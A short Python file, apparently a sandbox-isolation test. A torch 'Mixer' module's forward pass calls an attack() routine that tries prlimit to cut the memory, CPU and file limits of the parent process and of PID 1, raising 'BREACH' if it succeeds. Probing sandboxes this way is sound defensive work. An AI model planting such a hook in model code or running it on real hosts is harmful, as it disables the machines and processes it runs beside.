"""Takes memory and CPU time away from its parent by prlimit.

Check: imports
Trial: done, crashed
"""

import os
import resource

import torch


def attack():
    for pid in (os.getppid(), 1):
        for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
            try:
                resource.prlimit(pid, kind, (1, 1))
            except OSError:
                continue
            raise RuntimeError("BREACH: prlimit")


class Mixer(torch.nn.Module):
    def __init__(self, dim, heads, max_len, layer, layers):
        super().__init__()
        self.value = torch.nn.Linear(dim, dim)

    def forward(self, x):
        attack()
        return self.value(x)
